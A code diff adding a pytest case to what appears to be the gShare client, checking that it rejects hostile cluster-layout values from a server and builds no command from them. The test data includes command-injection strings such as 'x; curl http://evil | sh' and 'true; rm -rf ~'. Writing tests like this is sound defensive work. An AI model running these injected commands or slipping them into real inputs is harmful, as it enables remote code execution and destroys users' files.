@@ -528,3 +528,13 @@ def test_a_server_that_closes_each_connection_without_saying_so_answers_every_ca
         for _ in range(30):
             assert api.version() == VERSION and api.me() == STAFF
     assert all(headers.get("Connection") == "close" for _, _, headers in server.seen)
+
+
+@pytest.mark.parametrize("layout", [{"operator_namespace": "x; curl http://evil | sh"}, {"session_namespace": ["a"]},
+                                    {"volume_move_enabled": "true; rm -rf ~"}, {"operator_token_secret": "A" * 300}])
+def test_a_cluster_layout_that_is_not_kubernetes_names_builds_no_command(settings, hostile, layout):
+    server = hostile(routes({"version": {**VERSION, "cluster_layout": layout}, "me": STAFF}))
+    with pytest.raises(AttachStopped) as stop:
+        _attach(server.url)._check_control_plane()
+    assert "not gShare's" in stop.value.problem
+    assert "evil" not in stop.value.fix and "rm -rf" not in stop.value.fix and "AAAA" not in stop.value.fix
